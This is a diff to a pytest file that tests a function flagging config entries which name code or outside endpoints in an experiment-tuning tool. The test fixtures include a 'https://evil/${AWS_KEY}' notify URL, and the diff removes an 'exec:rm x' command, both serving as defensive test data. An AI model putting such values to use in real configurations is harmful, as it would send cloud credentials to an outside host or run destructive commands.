@@ -43,8 +43,8 @@ def test_code_of_lists_all_but_shipped_code():
     assert code_of({"trainable": "tuner.shipped.experiments.own_learner:Learner"}) == []
     assert code_of({"trainable": "os:system", "scheduler": "logging.config"}) == []
     assert code_of({"trainable": 1, "search": [], "scheduler": None, "notify": 3}) == []
-    named = code_of({"notify": ["exec:rm x", "https://evil/${AWS_KEY}", "https://x/s3cret", 3]})
-    assert [code.path for code in named] == ["exec:rm x", "https://evil/${AWS_KEY}"]
+    named = code_of({"notify": ["${URL}", "https://evil/${AWS_KEY}", "https://x/s3cret", 3]})
+    assert [code.path for code in named] == ["${URL}", "https://evil/${AWS_KEY}"]
 
 
 @pytest.mark.parametrize("dataset", ["digits", "folder:photos", "hf:mnist", "decoded:x", 3, "a:"])
@@ -108,7 +108,7 @@ def test_remember_code_holds_for_its_path_and_file(package, tmp_path, monkeypatc
 def test_remember_command_holds_for_its_directory(tmp_path, monkeypatch):
     monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
     (command,) = code_of({"trainable": {"command": ["make", "train"]}})
-    (target,) = code_of({"notify": "exec:make alarm"})
+    (target,) = code_of({"notify": "https://${HOST}/"})
     for code in (command, target):
         code.remember()
         assert code.is_remembered
